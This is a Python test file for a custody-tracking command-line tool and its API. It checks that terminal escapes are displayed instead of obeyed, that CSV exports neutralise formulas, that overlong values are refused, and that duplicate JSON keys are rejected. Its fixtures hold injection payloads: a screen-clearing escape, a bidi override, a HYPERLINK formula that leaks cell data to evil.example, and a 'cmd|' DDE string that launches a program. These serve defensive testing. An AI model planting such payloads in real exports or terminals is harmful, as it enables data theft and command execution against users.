"""Hostile strings (issue 16): terminal escapes in a name or title never reach the custodian's
terminal raw (`ESC[2J` cleared the screen), CSV exports carry no live formula (`=HYPERLINK(…)`),
over-long texts are refused naming the value and the limit, and an API body with a key given
twice is refused. Through the real console script and a real server."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select
import subprocess
import tty

import pytest
import requests
from conftest import Service, new_id
from test_checkpoint import CUSTODY, run

from custody.actions import limits
from custody.cli.table import render, visible
from custody.reports.registers import spreadsheet_safe

CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
EVIL_NAME = f"Eve{CLEAR}"
EVIL_TITLE = "Plan\u202egnp.exe\x9b31m\x07"  # a bidi override, a C1 CSI and a bell
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    home = tmp_path_factory.mktemp("hostile") / "home"
    run(home, "init")
    run(home, "station", "add", "保密室", "--kind", "safe")
    run(home, "person", "add", EVIL_NAME, "--badge", "B001", "--clearance", "secret", "--dept", "@SUM(1+1)")
    codes = {}
    for title in (EVIL_TITLE, FORMULA, "+1+cmd|' /C calc'!A0", "-2+3"):
        codes[title] = run(home, "item", "receive", "--title", title, "--level", "secret").stdout.split()[0]
        run(home, "check-out", codes[title], "--to", "B001")
    return home


def on_a_terminal(home, *args: str) -> tuple[int, str]:
    """Run the console script with stdout and stderr on a pty (raw mode: no CR added), as a
    custodian does; click strips some escapes only when output is NOT a terminal."""
    master, slave = pty.openpty()
    tty.setraw(slave)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CUSTODY_")}
    env["CUSTODY_HOME"] = str(home)
    proc = subprocess.Popen([CUSTODY, "--lang", "en", *args], stdout=slave, stderr=slave, env=env)
    os.close(slave)
    chunks = []
    try:
        while True:
            poller = select.poll()  # not select(): a descriptor numbered past 1024 is out of its range
            poller.register(master, select.POLLIN)
            if not poller.poll(60_000):
                raise AssertionError("no output within 60 s")
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the process closed its side
                break
            if not data:
                break
            chunks.append(data)
    finally:
        os.close(master)
    return proc.wait(30), b"".join(chunks).decode("utf-8")


def no_raw_controls(text: str) -> None:
    raw = [hex(ord(c)) for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    bidi = [hex(ord(c)) for c in text if 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069]
    assert raw == [] and bidi == []


@pytest.mark.parametrize(
    "args",
    [("out",), ("item", "list"), ("person", "list"), ("sweep",)],
    ids=lambda a: " ".join(a),
)
def test_tables_show_escapes_instead_of_obeying_them(home, args):
    """Regression (issue 16): a person named `Eve ESC[2J` cleared the custodian's screen."""
    status, out = on_a_terminal(home, *args)
    assert status == 0, out
    no_raw_controls(out)
    if args != ("item", "list"):
        assert "Eve\\x1b[2J\\x1b[H" in out
    if args != ("person", "list"):
        assert "Plan\\u202egnp.exe\\u009b31m\\x07" in out


def test_outcome_lines_and_errors_show_escapes(home):
    code = run(home, "item", "receive", "--title", "x", "--level", "secret").stdout.split()[0]
    status, line = on_a_terminal(home, "check-out", code, "--to", "B001")
    assert status == 0
    no_raw_controls(line)
    assert "Eve\\x1b[2J" in line
    status, error = on_a_terminal(home, "item", "show", f"{CLEAR}nope")
    assert status == 1
    no_raw_controls(error)
    assert "\\x1b[2J" in error


def test_json_keeps_the_real_characters(home):
    """--json is for scripts: still valid JSON, and it decodes to the name as stored."""
    listed = json.loads(run(home, "out", "--json").stdout)
    assert {i["holder"]["name"] for i in listed} == {EVIL_NAME}
    assert EVIL_TITLE in {i["title"] for i in listed}
    no_raw_controls(run(home, "out", "--json").stdout)


def test_sweep_csv_neutralises_formulas(home):
    text = run(home, "sweep", "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = {r["title"] for r in rows}
    assert "'" + FORMULA in titles and "'+1+cmd|' /C calc'!A0" in titles and "'-2+3" in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_register_csv_neutralises_formulas(home, tmp_path):
    path = tmp_path / "receipts.csv"
    run(home, "register", "receipts", "--csv", str(path))
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_the_neutralisers_themselves():
    assert visible("a\x1b[2Jb\x00\r\x7f\x85\u2066") == "a\\x1b[2Jb\\x00\\x0d\\u007f\\u0085\\u2066"
    assert visible("张三\tok\n") == "张三\tok\n"
    assert render(["h"], [["a\tb\nc"]]).splitlines()[-1] == "a\\tb\\nc"
    for cell in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("2026-11-30") == "2026-11-30" and spreadsheet_safe(12) == 12


@pytest.mark.parametrize(
    ("args", "field", "limit"),
    [
        (("item", "receive", "--title", "题" * 201, "--level", "secret"), "title", limits.TITLE),
        (
            ("item", "receive", "--title", "t", "--level", "secret", "--doc-no", "号" * 65),
            "document number",
            64,
        ),
        (("person", "add", "名" * 65, "--badge", "B009", "--clearance", "secret"), "name", limits.NAME),
        (
            ("person", "add", "n", "--badge", "B009", "--clearance", "secret", "--dept", "部" * 65),
            "department",
            64,
        ),
    ],
    ids=["title", "doc-no", "name", "dept"],
)
def test_over_long_texts_are_refused_naming_the_value_and_limit(home, args, field, limit):
    proc = run(home, *args, ok=False)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 1 and len(lines) == 1
    assert f"the {field} “" in lines[0] and f"at most {limit}" in lines[0] and "characters" in lines[0]
    assert len(lines[0]) < 200  # the value is named by its start, not repeated whole


def test_texts_at_the_limit_are_accepted(home):
    run(home, "item", "receive", "--title", "题" * limits.TITLE, "--level", "secret")
    run(home, "person", "add", "名" * limits.NAME, "--badge", "B010", "--clearance", "secret")


@pytest.mark.parametrize(
    ("body", "key"),
    [
        ('{{"code": "B001", "code": "{item}", "scan_id": "{id}"}}', "code"),
        ('{{"code": "B001", "scan_id": "{id}", "scan_id": "{id}"}}', "scan_id"),
    ],
)
def test_duplicate_json_keys_are_400_naming_the_key(service: Service, body, key):
    counts = service.office.counts()
    r = requests.post(
        service.url + "/api/v1/scans",
        data=body.format(item=service.office.secret[0], id=new_id()).encode(),
        headers={
            "Authorization": f"Bearer {service.office.tokens['保密室']}",
            "Content-Type": "application/json",
        },
        timeout=10,
    )
    assert r.status_code == 400 and list(r.json()) == ["error"]
    assert f"'{key}'" in r.json()["error"]
    assert service.office.counts() == counts


def test_duplicate_keys_in_a_batch_entry_are_refused_too(service: Service):
    body = f'{{"scans": [{{"code": "B001", "scan_id": "{new_id()}", "code": "X"}}]}}'
    r = requests.post(
        service.url + "/api/v1/scans/batch",
        data=body.encode(),
        headers={"Authorization": f"Bearer {service.office.tokens['保密室']}"},
        timeout=10,
    )
    assert r.status_code == 400 and list(r.json()) == ["error"]
    assert "'code'" in r.json()["error"]
